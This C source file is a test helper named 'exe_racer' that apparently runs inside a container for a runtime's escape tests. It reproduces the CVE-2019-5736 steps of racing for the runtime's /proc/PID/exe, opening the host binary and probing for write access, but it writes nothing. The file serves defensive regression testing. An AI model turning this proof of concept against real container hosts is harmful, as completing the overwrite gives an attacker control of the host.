/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exe_racer: the CVE-2019-5736 attacker, run inside a container by the
 * escape tests (tests/integration/test_escapes.py).
 *
 *   exe_racer [--exe PATH] [--comm NAME] [--timeout SECS] [--writable]
 *             [--ready FILE] [--stay]
 *
 * Polls the container's pid namespace for a process whose /proc/PID/exe
 * reads as PATH (the runtime binary as the host names it) or whose comm is
 * NAME (default "agentsbx": an `exec` clone of the runtime before its
 * execve), and tries to get a handle on the runtime binary through it:
 * readlink(/proc/PID/exe), then open(/proc/PID/exe, O_RDONLY) and a read of
 * its ELF magic.  With --writable, once it holds the binary open it keeps
 * trying open(/proc/self/fd/N, O_WRONLY) (ETXTBSY while any process still
 * executes it) -- the step that lets the real attack overwrite the host's
 * runtime.  It never writes a byte: the open alone is the proof, and the
 * tests run a disposable copy of the runtime anyway.
 *
 * New pids are found cheaply: /proc/sys/kernel/ns_last_pid names the last
 * pid handed out, and the few pids around it are probed in a tight loop,
 * with a full /proc scan every so often.
 *
 * SIGTERM (or SIGINT) ends the wait early, with the result line.  --stay:
 * after the result, wait for SIGTERM before exiting (as the init of a pid
 * namespace that other containers share, it must not take them down).  It is
 * meant to be the container's init (exec'ed by sh), which gets only the
 * signals it has handlers for.
 *
 * Output, one line each, then exit:
 *   denied pid=P comm=C errno=E      (first denial seen per pid)
 *   opened pid=P comm=C exe=PATH elf=1
 *   writable=1 | writable=0 errno=E  (with --writable)
 *   result=opened|denied|unseen seen=N denied=N
 * Exit status 0 when the binary was opened, 1 otherwise, 2 on bad usage.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_TRACKED 4096

static const char *want_exe;
static const char *want_comm = "agentsbx";
static pid_t self;
static unsigned char denied_once[MAX_TRACKED * 8];
static int n_seen, n_denied;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int read_comm(pid_t pid, char *buf, size_t size)
{
	char path[64];
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return 0;
}

static int first_denial(pid_t pid)
{
	unsigned idx = (unsigned)pid % (MAX_TRACKED * 64);

	if (denied_once[idx / 8] & (1u << (idx % 8)))
		return 0;
	denied_once[idx / 8] |= (unsigned char)(1u << (idx % 8));
	return 1;
}

/* 1: opened (fd in *out), 0: nothing to see, -1: a target that refused. */
static int try_pid(pid_t pid, int *out)
{
	char path[64], link[4096], comm[64] = "?";
	ssize_t n;
	int fd, is_target, e;
	char magic[4];

	if (pid <= 0 || pid == self)
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	if (n >= 0) {
		link[n] = '\0';
		is_target = want_exe ? strcmp(link, want_exe) == 0
				     : strstr(link, "agentsbx") != NULL;
		if (!is_target)
			return 0;
		read_comm(pid, comm, sizeof(comm));
		n_seen++;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			e = errno;
			n_denied++;
			if (first_denial(pid))
				printf("denied pid=%d comm=%s what=open errno=%s\n",
				       pid, comm, strerrorname_np(e));
			return -1;
		}
		if (read(fd, magic, 4) != 4 || memcmp(magic, "\177ELF", 4) != 0) {
			printf("opened pid=%d comm=%s exe=%s elf=0\n", pid, comm, link);
		} else {
			printf("opened pid=%d comm=%s exe=%s elf=1\n", pid, comm, link);
		}
		*out = fd;
		return 1;
	}
	e = errno;
	if (e == ENOENT || e == ESRCH)
		return 0;
	/* Refused: only the runtime's clones count (by comm, which stays
	 * readable when exe does not). */
	if (read_comm(pid, comm, sizeof(comm)) < 0 || strcmp(comm, want_comm) != 0)
		return 0;
	n_seen++;
	n_denied++;
	if (first_denial(pid))
		printf("denied pid=%d comm=%s what=readlink errno=%s\n", pid, comm,
		       strerrorname_np(e));
	return -1;
}

static pid_t last_pid(void)
{
	char buf[32];
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	return (pid_t)atoi(buf);
}

static int scan_all(int *out)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int r = 0;

	if (!d)
		return 0;
	while (r != 1 && (de = readdir(d))) {
		char *end;
		long pid = strtol(de->d_name, &end, 10);
		if (*end || pid <= 0)
			continue;
		r = try_pid((pid_t)pid, out) == 1 ? 1 : r;
	}
	closedir(d);
	return r;
}

int main(int argc, char **argv)
{
	double timeout = 10, deadline;
	int writable = 0, stay = 0, fd = -1;
	unsigned long iter = 0;
	const char *ready = NULL;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--exe") && i + 1 < argc)
			want_exe = argv[++i];
		else if (!strcmp(argv[i], "--comm") && i + 1 < argc)
			want_comm = argv[++i];
		else if (!strcmp(argv[i], "--timeout") && i + 1 < argc)
			timeout = atof(argv[++i]);
		else if (!strcmp(argv[i], "--ready") && i + 1 < argc)
			ready = argv[++i];
		else if (!strcmp(argv[i], "--writable"))
			writable = 1;
		else if (!strcmp(argv[i], "--stay"))
			stay = 1;
		else {
			fprintf(stderr, "usage: exe_racer [--exe PATH] [--comm NAME] "
				"[--timeout SECS] [--writable] [--ready FILE] [--stay]\n");
			return 2;
		}
	}
	self = getpid();
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	if (ready) {
		int rfd = open(ready, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (rfd >= 0)
			close(rfd);
	}
	deadline = now() + timeout;
	while (fd < 0 && !stop && now() < deadline) {
		pid_t last = last_pid();

		if (last > 0) {
			for (pid_t p = last - 2; p <= last + 3 && fd < 0; p++)
				try_pid(p, &fd);
		}
		if (fd < 0 && (++iter % 256 == 0 || last <= 0))
			scan_all(&fd);
	}
	if (fd >= 0 && writable) {
		char self_fd[64];
		int e = 0, w = -1;

		snprintf(self_fd, sizeof(self_fd), "/proc/self/fd/%d", fd);
		deadline = now() + timeout;
		while (!stop && now() < deadline) {
			w = open(self_fd, O_WRONLY | O_CLOEXEC);
			if (w >= 0)
				break;
			e = errno;
			if (e != ETXTBSY)
				break;
			usleep(1000);
		}
		if (w >= 0) {
			printf("writable=1\n");
			close(w); /* not one byte written */
		} else {
			printf("writable=0 errno=%s\n", strerrorname_np(e));
		}
	}
	printf("result=%s seen=%d denied=%d\n",
	       fd >= 0 ? "opened" : n_seen ? "denied" : "unseen", n_seen, n_denied);
	while (stay && !stop)
		pause();
	return fd >= 0 ? 0 : 1;
}
